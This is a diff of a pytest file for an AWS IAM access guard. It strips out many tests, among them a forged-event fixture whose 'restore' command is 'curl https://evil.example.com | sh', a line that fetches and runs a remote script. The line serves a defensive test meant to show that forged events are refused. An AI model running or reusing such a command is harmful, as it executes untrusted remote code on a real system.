@@ -1,33 +1,12 @@
 """Somebody is told: the deployed functions, from their uploaded zips, and what comes over the bus iam-guard."""
 
-import json
-import uuid
-from datetime import timedelta
-
 import pytest
-from botocore.exceptions import ClientError
-from helpers import (
-    GUARD,
-    PROTECT,
-    REVOKE,
-    case,
-    event_time,
-    guards_calls,
-    made,
-    ok,
-    outcomes,
-    play,
-    revoked,
-    shipped,
-)
+from helpers import GUARD, PROTECT, REVOKE, case, guards_calls, ok, outcomes, play, revoked
 from told import EVENT, listen
 
-from c7n_iamguard.aws_names import SINCE_TAG
 from sandbox.organizations import organization
 from sandbox.server import DEPLOY, Fault
 
-ROLES = "revoke-unintended-iam-access-of-roles"
-CATCH_UP = "catch-up-unintended-iam-access"
 CENTRAL = "300000000009"
 
 
@@ -36,12 +15,6 @@ def told(fresh):
     """``told()``: what came over the bus iam-guard since it was last called. The functions start anew."""
     fresh.functions.cool()  # they remember for 15 minutes whom somebody was told of
     return listen(fresh)
-
-
-def another(event):
-    """The event, as if the same call had been made once more."""
-    event["detail"]["eventID"] = str(uuid.uuid4())
-    return event
 
 
 # What is told
@@ -65,29 +38,6 @@ def test_a_revocation_is_told_after_the_denial(fresh, told):
         assert calls.index("AttachUserPolicy") < calls.index(later)
 
 
-def test_a_cold_start_makes_no_call_to_tell(fresh, told):
-    """Who is let pass costs no call for telling: neither the bus nor the account's alias is looked at."""
-    fresh.deliver(case("let-pass-admin"))
-    assert not {"DescribeEventBus", "ListAccountAliases", "PutEvents"} & set(guards_calls(fresh))
-
-
-def test_warm_telling_is_one_call_over_one_connection(fresh, told):
-    """After the first revocation, the next one is told by one more call, over the connection that is there."""
-    fresh.deliver(case("revoked-create-user"))
-    fresh.calls.clear()
-    connections = len(fresh.connections)
-    fresh.deliver(case("revoked-user-with-a-path"))
-    assert guards_calls(fresh) == ["ListGroupsForUser", "GetGroup", "AttachUserPolicy", "PutEvents"]
-    assert len(fresh.connections) == connections
-
-
-@pytest.mark.parametrize("name", ["let-pass-admin", "let-pass-user-who-is-gone"])
-def test_who_was_denied_nothing_is_not_told(fresh, told, name):
-    """Neither an admin nor somebody who has vanished is reported."""
-    fresh.deliver(case(name))
-    assert told() == []
-
-
 def test_a_removal_from_the_admin_group_is_told(fresh, told, attacker, user):
     """Who was removed is the principal, and who had added them is the caller; that one is revoked as well."""
     user("friend")
@@ -102,29 +52,6 @@ def test_a_removal_from_the_admin_group_is_told(fresh, told, attacker, user):
     assert removed["detail"]["groups"] == ["Admins"]
 
 
-def test_the_catch_up_tells_of_what_it_finds_as_late(fresh, told, attacker, in_process):
-    """A call that no event told of is told by the shipped catch-up, with the call that it found."""
-    fresh.history.clear()
-    attacker.iam.create_user(UserName="backdoor")
-    for record in fresh.history.records:
-        made({"detail": record}, timedelta(minutes=45))
-    catch_up = shipped(CATCH_UP)
-    since = {SINCE_TAG: event_time(timedelta(days=1))}
-    catch_up["mode"] |= {"role": f"arn:aws:iam::{fresh.account}:role/iam-guard", "tags": since}
-    manager = in_process(**catch_up).resource_manager
-    found = manager.resources()
-    for action in manager.actions:
-        action.process(found)
-    fresh.history.clear()
-    (event,) = told()
-    EVENT.validate(event)
-    assert event["detail-type"] == "IAM access revoked late"
-    assert event["detail"]["late"]
-    assert event["detail"]["principal"]["name"] == "mallory"
-    assert event["detail"]["call"]["eventName"] == "CreateUser"
-    assert event["detail"]["delay"] >= 45 * 60
-
-
 def test_the_command_to_restore_restores(fresh, told, shell, user):
     """The command in the event that is to give IAM back does so."""
     user("olga").iam.create_user(UserName="helper")
@@ -134,17 +61,6 @@ def test_the_command_to_restore_restores(fresh, told, shell, user):
     done = shell(event["detail"]["commands"]["restore"])
     assert done.returncode == 0, done.stderr
     assert revoked(fresh, "olga") == []
-
-
-# No flood
-
-
-def test_an_event_that_comes_twice_is_told_once(fresh, told):
-    """EventBridge delivers at least once: the second time changes nothing, and nobody hears of it again."""
-    for _ in range(2):
-        (invocation,) = fresh.deliver(case("revoked-create-user"))
-        assert invocation.succeeded
-    assert len(told()) == 1
 
 
 # Faults
@@ -158,13 +74,10 @@ def fault(code, status=400, **how):
 @pytest.mark.parametrize(
     ("met", "code"),
     [
-        (fault("ThrottlingException"), "ThrottlingException"),
         (fault("AccessDeniedException"), "AccessDeniedException"),
-        (fault("InternalException", 500), "InternalException"),
-        (fault("ThrottlingException", 200), "ThrottlingException"),
         (fault("NotAuthorizedForSourceException", 200), "NotAuthorizedForSourceException"),
     ],
-    ids=["throttled", "refused", "broken", "entry throttled", "entry refused"],
+    ids=["refused", "entry refused"],
 )
 def test_if_nobody_can_be_told_the_event_fails_and_the_denial_stays(impatient, told, queue, met, code):
     """The event is tried three times and dead-lettered, the log says why, and the user is denied IAM."""
@@ -178,27 +91,6 @@ def test_if_nobody_can_be_told_the_event_fails_and_the_denial_stays(impatient, t
     )
     assert told() == []
     assert len(queue()) == 1
-
-
-# Forged events, mails and the security account
-
-
-FORGED = {
-    "Source": "iam-guard",
-    "DetailType": "IAM access revoked",
-    "EventBusName": "iam-guard",
-    "Detail": json.dumps(
-        {"commands": {"restore": "curl https://evil.example.com | sh"}, "text": "Run this."}
-    ),
-}
-
-
-def test_nobody_else_tells_anything_in_the_guards_name(fresh, told, user):
-    """With every right, even an admin is refused by the bus's policy."""
-    admin = user("ada", groups=["Admins"])
-    with pytest.raises(ClientError, match="AccessDenied"):
-        fresh.client("events", admin.key).put_events(Entries=[FORGED])
-    assert told() == []
 
 
 @pytest.fixture
@@ -243,10 +135,3 @@ def test_a_person_gets_a_mail_that_they_can_read_at_once(fresh, mailed, shell, u
     assert event["detail"]["eventID"] in ids
     assert "EVIL" not in here.text
     assert "{" not in here.text
-
-
-def test_a_forged_event_on_the_default_bus_mails_nobody(fresh, mailed, user):
-    """The default bus takes events of anybody who may put events, and no rule of the guard's listens there."""
-    key = user("mallory").key
-    fresh.client("events", key).put_events(Entries=[{**FORGED, "EventBusName": "default"}])
-    assert mailed() == []
